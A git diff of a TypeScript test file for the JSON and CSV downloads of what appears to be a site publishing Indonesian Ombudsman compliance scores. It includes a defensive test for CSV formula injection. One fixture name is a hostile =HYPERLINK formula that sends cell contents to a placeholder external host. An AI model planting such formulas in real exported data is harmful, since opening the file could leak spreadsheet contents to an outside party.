@@ -1,15 +1,16 @@
 import { describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
-import { joined, prettyJson, roundCsv as roundCsvPieces, roundJson as roundJsonPieces } from '../../src/view/downloads.ts';
-import type { Result, Round } from '../../src/domain/types.ts';
+import { joined, prettyJson, roundCsv as roundCsvPieces, roundHead, roundJson as roundJsonPieces, type PublishedResult } from '../../src/view/downloads.ts';
+import type { Round } from '../../src/domain/types.ts';
+import { defaultRound } from '../../src/ingest/rounds.ts';
 import { csvCell } from '../../src/view/csv-cell.ts';
 import { allRoundsCsv as allRoundsCsvPieces, regionHistoryCsv } from '../../src/view/dataset-downloads.ts';
 
 const roundJson = (...args: Parameters<typeof roundJsonPieces>) => joined(roundJsonPieces(...args));
 const roundCsv = (...args: Parameters<typeof roundCsvPieces>) => joined(roundCsvPieces(...args));
 
-const base: Result = {
+const base: PublishedResult = {
   code: '18.72',
   name: 'Metro',
   kind: 'kota',
@@ -32,10 +33,27 @@ const base: Result = {
   opinion: 'Kualitas Tinggi',
   methodBreak: false,
   previousRankOf: 98,
+  provinceName: 'Lampung',
   dimensions: { input: 85.2 },
 };
-const R2023 = { year: 2023, method: 'kepatuhan', sample: false };
-const province: Result = {
+const R2023: Round = { ...defaultRound(2023), published: '2023-12-12', source: 'https://ombudsman.go.id/', dimensions: [{ key: 'input', label: 'Input' }] };
+/** What data/2023.json says of its round, written out by hand. */
+const HEAD_2023 = {
+  year: 2023,
+  title: 'Penilaian Kepatuhan Standar Pelayanan Publik 2023',
+  published: '2023-12-12',
+  source: 'https://ombudsman.go.id/',
+  method: 'kepatuhan',
+  sample: false,
+  predicates: [],
+  bands: [
+    { min: 81, zone: 'hijau', label: 'Kepatuhan Tinggi', grade: null },
+    { min: 51, zone: 'kuning', label: 'Kepatuhan Sedang', grade: null },
+    { min: 0, zone: 'merah', label: 'Kepatuhan Rendah', grade: null },
+  ],
+  dimensions: [{ key: 'input', label: 'Input' }],
+};
+const province: PublishedResult = {
   ...base,
   code: '18',
   name: 'Lampung, "Sai Bumi"',
@@ -51,17 +69,19 @@ const province: Result = {
   previousRank: null,
   rankChange: null,
   previousRankOf: null,
+  provinceName: null,
   dimensions: {},
 };
 
 describe('data/YYYY.json and data/YYYY.csv', () => {
-  it('JSON is { year, method, sample, results } with the contract example row as is', () => {
-    expect(JSON.parse(roundJson(R2023, [base]))).toEqual({ year: 2023, method: 'kepatuhan', sample: false, results: [base] });
+  it('JSON is the round (year, title, date, source, method, sample, predicates, bands, dimensions), then its results', () => {
+    expect(JSON.parse(roundJson(R2023, [base]))).toEqual({ ...HEAD_2023, results: [base] });
+    expect(roundHead(R2023)).toEqual(HEAD_2023);
   });
 
   it("JSON lists the contract's fields only, in its order, whatever else a row carries", () => {
     // The view hands its rows (results with a label and links) to the downloads.
-    const row = { label: 'Kota Metro', url: '/wilayah/kota-metro/', ...base, provinceName: 'Lampung' };
+    const row = { label: 'Kota Metro', url: '/wilayah/kota-metro/', ...base, headline: 'Zona Hijau' };
     const text = roundJson(R2023, [row]);
     expect(text).toBe(roundJson(R2023, [base]));
     expect(Object.keys((JSON.parse(text) as { results: object[] }).results[0]!)).toEqual(Object.keys(base));
@@ -84,9 +104,9 @@ describe('data/YYYY.json and data/YYYY.csv', () => {
 
   it('writes the hand-worked rows, quoting where needed, CRLF line ends', () => {
     expect(roundCsv([province, base], [{ key: 'input', label: 'Input' }])).toBe(
-      'code,name,kind,province,slug,score,zone,band,grade,rank,rankOf,provinceRank,provinceRankOf,previousYear,previousScore,scoreChange,previousRank,rankChange,predicate,opinion,methodBreak,previousRankOf,dimensions.input\r\n' +
-        '18,"Lampung, ""Sai Bumi""",provinsi,,provinsi-lampung,80.85,hijau,Kualitas Tinggi,,3,98,,,,,,,,,Kualitas Tinggi,false,,\r\n' +
-        '18.72,Metro,kota,18,kota-metro,80.85,hijau,Kualitas Tinggi,B,3,98,1,15,2022,79.1,1.75,5,2,,Kualitas Tinggi,false,98,85.2\r\n',
+      'code,name,kind,province,slug,score,zone,band,grade,rank,rankOf,provinceRank,provinceRankOf,previousYear,previousScore,scoreChange,previousRank,rankChange,predicate,opinion,methodBreak,previousRankOf,provinceName,dimensions.input\r\n' +
+        '18,"Lampung, ""Sai Bumi""",provinsi,,provinsi-lampung,80.85,hijau,Kualitas Tinggi,,3,98,,,,,,,,,Kualitas Tinggi,false,,,\r\n' +
+        '18.72,Metro,kota,18,kota-metro,80.85,hijau,Kualitas Tinggi,B,3,98,1,15,2022,79.1,1.75,5,2,,Kualitas Tinggi,false,98,Lampung,85.2\r\n',
     );
   });
 });
@@ -121,13 +141,13 @@ describe('downloads in pieces', () => {
     expect(parse(pieces.join(''))).toHaveLength(1235);
     const json = [...roundJsonPieces(R2023, results)];
     expect(json.length).toBe(5); // the opening, three pieces of at most 500 results, the closing
-    expect(json.join('')).toBe(`${JSON.stringify({ ...R2023, results }, null, 2)}\n`);
+    expect(json.join('')).toBe(`${JSON.stringify({ ...HEAD_2023, results }, null, 2)}\n`);
   });
 });
 
 describe('CSV cells never start a formula (OWASP CSV injection)', () => {
   const FORMULA = /^[=+\-@\t\r]/;
-  const hostile: Result = {
+  const hostile: PublishedResult = {
     ...base,
     code: '-18',
     name: '=HYPERLINK("http://x.example/?"&A1,"klik")',
@@ -154,7 +174,7 @@ describe('CSV cells never start a formula (OWASP CSV injection)', () => {
     });
     expect(cell).toMatchObject({ scoreChange: '-1.5', rankChange: '-3' });
     // The JSON keeps the true value.
-    expect((JSON.parse(roundJson(R2023, [hostile])) as { results: Result[] }).results[0]!.name).toBe(hostile.name);
+    expect((JSON.parse(roundJson(R2023, [hostile])) as { results: PublishedResult[] }).results[0]!.name).toBe(hostile.name);
   });
 
   it('every download made of the same rows: all-rounds and region history CSVs too', () => {
